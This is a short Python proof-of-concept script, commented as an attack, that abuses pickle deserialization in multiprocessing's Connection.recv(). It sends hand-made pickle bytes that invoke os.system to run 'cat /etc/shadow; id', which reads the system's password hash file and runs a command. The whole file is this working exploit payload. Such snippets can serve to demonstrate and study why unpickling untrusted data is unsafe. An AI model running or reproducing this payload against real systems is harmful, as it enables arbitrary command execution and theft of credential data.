# attack: send hand-made pickle bytes over a multiprocessing Pipe; Connection.recv() unpickles them and calls os.system
from multiprocessing import Pipe

a, b = Pipe()
a.send_bytes(b"\x80\x02cos\nsystem\nX\x13\x00\x00\x00cat /etc/shadow; id\x85R.")
print(b.recv())
